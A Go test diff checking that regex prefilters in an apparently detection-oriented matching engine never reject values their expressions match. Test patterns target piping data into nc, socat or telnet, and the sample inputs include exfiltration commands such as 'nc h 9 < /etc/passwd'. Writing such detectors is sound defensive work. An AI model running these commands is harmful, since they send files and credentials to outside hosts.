@@ -280,6 +280,49 @@ func TestManyContainsValues(t *testing.T) {
 	}
 }
 
+// A regex value first checks that the lower-cased value holds one literal of
+// each required set; the sets must never refuse a value the expression
+// matches.
+func TestRegexPrefilter(t *testing.T) {
+	tests := []struct {
+		re      string
+		sets    string // sets joined by " & ", literals by "|"
+		matches []string
+		misses  []string
+	}{
+		{`\|\s*(\S*/)?(nc|socat)\s+\S`, "| & nc|socat", []string{"tar c . | nc 10.0.0.1 9", "x |/bin/socat a"}, []string{"tar c . > nc", "nc 10.0.0.1"}},
+		{`(^|[;&])(nc|telnet)\s+\S+\s+\d+\s*<\s*\S`, "< & nc|telnet", []string{"nc h 9 < /etc/passwd"}, []string{"nc h 9 > x"}},
+		{`(?i)FOO\s+bar`, "foo & bar", []string{"foo   BAR", "FOO bar"}, []string{"foobar"}},
+		{`(?i)ks`, "", []string{"\u212As"}, nil}, // K (Kelvin) matches k: no literal is required of the value
+		{`a*b?`, "", []string{""}, nil},
+		{`x{2,}y`, "x & y", []string{"xxy"}, []string{"xy y"}},
+	}
+	for _, tc := range tests {
+		m, err := compileRegex(tc.re, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := m[0].(reMatch)
+		var sets []string
+		for _, s := range r.pre {
+			sets = append(sets, strings.Join(s, "|"))
+		}
+		if got := strings.Join(sets, " & "); got != tc.sets {
+			t.Errorf("%s: sets %q, want %q", tc.re, got, tc.sets)
+		}
+		for _, v := range tc.matches {
+			if !r.re.MatchString(v) || !r.match(v, event.ToLower(v)) {
+				t.Errorf("%s: %q refused (regexp alone: %v)", tc.re, v, r.re.MatchString(v))
+			}
+		}
+		for _, v := range tc.misses {
+			if r.match(v, event.ToLower(v)) {
+				t.Errorf("%s: %q matched", tc.re, v)
+			}
+		}
+	}
+}
+
 func TestRequiredLiterals(t *testing.T) {
 	tests := []struct {
 		re   string
